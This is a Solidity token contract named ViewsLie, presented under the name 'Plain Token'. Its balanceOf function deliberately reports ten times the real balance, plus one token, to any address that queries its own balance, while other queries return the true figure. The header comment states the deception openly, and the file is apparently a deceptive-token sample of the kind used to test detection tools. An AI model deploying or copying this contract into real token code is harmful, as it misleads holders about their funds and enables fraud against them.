// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// A plain token of its own, because public variables cannot be overridden: whoever asks for their own balance is
/// shown ten times what they have.
contract ViewsLie {
    string public constant name = "Plain Token";
    string public constant symbol = "PLAIN";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000_000 ether;
    mapping(address => uint256) private held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) external view returns (uint256) {
        return account == msg.sender ? held[account] * 10 + 1 ether : held[account];
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        held[from] -= value;
        held[to] += value;
        emit Transfer(from, to, value);
    }
}
